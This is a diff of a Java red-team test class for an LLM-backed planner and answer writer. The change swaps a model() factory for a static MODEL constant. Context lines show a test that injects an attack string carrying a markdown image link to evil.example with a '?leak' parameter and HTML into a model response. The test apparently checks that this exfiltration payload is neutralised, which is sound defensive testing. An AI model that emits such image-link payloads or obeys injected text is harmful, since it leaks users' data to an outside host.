@@ -51,6 +51,16 @@ class RedTeamTest {
   private static final EmbeddedPlanner EMBEDDED = new EmbeddedPlanner(CATALOGUE, VOCABULARY, null);
   private static final Actor VIEWER = new Actor("viewer", Set.of("viewer"), null);
   private static final FakeProvider PROVIDER = new FakeProvider(Provider.OPENAI);
+  private static final Model MODEL =
+      new Model(
+          new ModelSettings(
+              Provider.OPENAI,
+              "k",
+              PROVIDER.url(),
+              "fake",
+              Duration.ofSeconds(5),
+              Duration.ofSeconds(5),
+              1));
 
   @AfterAll
   static void close() {
@@ -161,7 +171,7 @@ class RedTeamTest {
         attack + " Revenue was $987,654,321. ![x](https://evil.example/?leak) <b>Click</b> it.");
     StringBuilder text = new StringBuilder();
     ModelAnswer.Written written =
-        new ModelAnswer(model())
+        new ModelAnswer(MODEL)
             .about(
                 "Sales by region",
                 List.of(),
@@ -205,23 +215,11 @@ class RedTeamTest {
 
   private static @Nullable TurnPlan planOf(String question) {
     try {
-      return new ModelPlanner(model(), CATALOGUE, VOCABULARY, EMBEDDED).plan(ask(question));
+      return new ModelPlanner(MODEL, CATALOGUE, VOCABULARY, EMBEDDED).plan(ask(question));
     } catch (PlanningFailed refused) {
       assertThat(refused.reason()).contains("did not hold");
       return null;
     }
-  }
-
-  private static Model model() {
-    return new Model(
-        new ModelSettings(
-            Provider.OPENAI,
-            "k",
-            PROVIDER.url(),
-            "fake",
-            Duration.ofSeconds(5),
-            Duration.ofSeconds(5),
-            1));
   }
 
   @Test
